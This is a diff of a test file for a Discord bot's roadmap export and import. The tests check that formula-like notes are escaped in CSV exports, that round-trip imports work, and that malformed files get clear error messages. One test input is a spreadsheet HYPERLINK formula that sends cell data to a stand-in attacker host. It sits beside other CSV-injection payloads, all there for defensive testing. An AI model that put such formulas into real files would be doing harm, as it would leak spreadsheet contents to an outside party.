@@ -1,3 +1,4 @@
+import { parse as parseCsv } from "csv-parse/sync";
 import { PermissionFlagsBits } from "discord.js";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import type { Roadmap } from "../../src/catalogue/catalogue.ts";
@@ -5,6 +6,7 @@ import { UserError } from "../../src/errors.ts";
 import { confirmImport } from "../../src/portability/import-service.ts";
 import { type GuildModel, type MemberModel, type StandIn } from "../standin/index.ts";
 import type { TestBot } from "../support/bot.ts";
+import { dumpDatabase } from "../support/db-dump.ts";
 import { startBotWorld, type BotWorld } from "../support/world.ts";
 
 let standIn: StandIn;
@@ -73,6 +75,54 @@ describe("/roadmap export", () => {
   });
 });
 
+/**
+ * Notes a member could type that a spreadsheet would run as formulas (OWASP CSV injection). The
+ * bot trims notes as it stores them, so a leading tab or CR arrives as the `=` behind it.
+ */
+const FORMULA_NOTES = ['=HYPERLINK("https://evil.example/?leak="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1"];
+
+async function checkWithFormulaNotes(member: MemberModel, first: number): Promise<string[]> {
+  const items = roadmap.items.slice(first, first + FORMULA_NOTES.length);
+  for (const [index, item] of items.entries()) await run(member, "check", { item: item.id, note: FORMULA_NOTES[index]! });
+  return items.map((item) => item.id);
+}
+
+/** Every cell of a CSV, parsed as a spreadsheet would. */
+function cells(csv: string): string[][] {
+  return parseCsv(csv, { relax_column_count: true }) as string[][];
+}
+
+describe("CSV exports open safely in a spreadsheet", () => {
+  it("a note that looks like a formula is written as text in the member's own CSV export", async () => {
+    const member = guild.addMember({ username: "formulas" });
+    const ids = await checkWithFormulaNotes(member, 60);
+    const rows = cells((await exportOf(member, "csv")).text);
+    const notes = ids.map((id) => rows.find((row) => row[0] === id)?.[5]);
+    expect(notes).toEqual(FORMULA_NOTES.map((note) => `'${note.trim()}`));
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝]/);
+  });
+
+  it("a note that looks like a formula is written as text in the organisers' CSV export", async () => {
+    const member = guild.addMember({ username: "groupformulas" });
+    const ids = await checkWithFormulaNotes(member, 70);
+    const organiser = guild.addMember({ username: "formulaorganiser", permissions: PermissionFlagsBits.ManageGuild });
+    const rows = cells((await run(organiser, "export", {}, "roadmap-admin")).files[0]!.data.toString("utf8"));
+    const notes = ids.map((id) => rows.find((row) => row[0] === member.id && row[1] === id)?.[6]);
+    expect(notes).toEqual(FORMULA_NOTES.map((note) => `'${note.trim()}`));
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝]/);
+  });
+
+  it("a member's CSV export with such notes imports back cleanly", async () => {
+    const source = guild.addMember({ username: "roundtrip" });
+    const ids = await checkWithFormulaNotes(source, 80);
+    const { text } = await exportOf(source, "csv");
+    const member = guild.addMember({ username: "roundtripped" });
+    const preview = await run(member, "import", { file: upload("progress.csv", text, "text/csv") });
+    expect(preview.content).toContain(`${ids.length} item(s) would be checked`);
+    expect(preview.content).not.toContain("match no item");
+  });
+});
+
 describe("/roadmap import", () => {
   it("previews what it would check, changes nothing until Confirm, then applies it and removes the buttons", async () => {
     const source = guild.addMember({ username: "source" });
@@ -126,6 +176,17 @@ describe("/roadmap import", () => {
     expect(replacing.content).toContain("1 item(s) would be unchecked");
   });
 
+  it("a file that would change nothing offers nothing to confirm and stores nothing", async () => {
+    const member = guild.addMember({ username: "nothingnew" });
+    await run(member, "check", { item: roadmap.items[95]!.id });
+    const before = await dumpDatabase(bot.context.db);
+    const file = [`- [x] ${roadmap.items[95]!.title}`, `- [ ] ${roadmap.items[96]!.title}`].join("\n");
+    const reply = await run(member, "import", { file: upload("same.md", file) });
+    expect(reply.content).toContain("Nothing would change, so there is nothing to confirm.");
+    expect(reply.components).toEqual([]);
+    expect(await dumpDatabase(bot.context.db)).toBe(before);
+  });
+
   it("reads a CSV export", async () => {
     const member = guild.addMember({ username: "csvfan" });
     const csv = `item_id,title,stage,section,done_at,note\n${roadmap.items[30]!.id},x,1,1.2,2026-01-01T00:00:00Z,\n${roadmap.items[31]!.id},y,1,1.2,,\n`;
@@ -142,6 +203,31 @@ describe("/roadmap import", () => {
     const empty = await run(member, "import", { file: upload("notes.md", "# My notes\nNothing to see here.") });
     expect(empty.content).toContain("no checklist items");
     expect(await doneIds(member)).toEqual([]);
+  });
+});
+
+describe("a file that can't be read is explained", () => {
+  const MALFORMED: [string, string | Buffer, string][] = [
+    ["an unclosed quote", `item_id,done_at\n"${"x"},2026-01-01\nstage-1,\n`, "never closed"],
+    ["a quote in the middle of a value", `item_id,done_at\nab"c,2026-01-01\n`, "Line 2 of that CSV has a quote"],
+    ["a row with more values than columns", `item_id,title,done_at\nx,Use pandas, numpy and friends,2026-01-01\n`, "Line 2 of that CSV has more values than the first line has column names"],
+    ["no item_id or title column", `name,when\nPython,yesterday\n`, "should name its columns, with an `item_id` (or `title`) column"],
+    ["semicolons instead of commas", `item_id;done_at\nstage-1;2026-01-01\n`, "separated by semicolons: please save it with commas"],
+    ["text that isn't UTF-8", Buffer.concat([Buffer.from("item_id,note\nx,ok\ny,caf"), Buffer.from([0xe9]), Buffer.from("\n")]), "isn't UTF-8 text (line 3"],
+    ["UTF-16 text", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("item_id\nx\n", "utf16le")]), "saved as UTF-16"],
+    ["binary data", Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x08, 0x00]), "doesn't look like text"],
+  ];
+
+  it.each(MALFORMED)("a CSV with %s gets a specific, polite answer and changes nothing", async (_what, file, expected) => {
+    const member = guild.addMember({ username: "malformed" });
+    await run(member, "check", { item: roadmap.items[90]!.id });
+    const before = await dumpDatabase(bot.context.db);
+    const reply = await run(member, "import", { file: upload("progress.csv", file, "text/csv") });
+    expect(reply.ephemeral).toBe(true);
+    expect(reply.content).toContain(expected);
+    expect(reply.content).not.toContain("Sorry, something went wrong");
+    expect(reply.components).toEqual([]);
+    expect(await dumpDatabase(bot.context.db)).toBe(before);
   });
 });
 
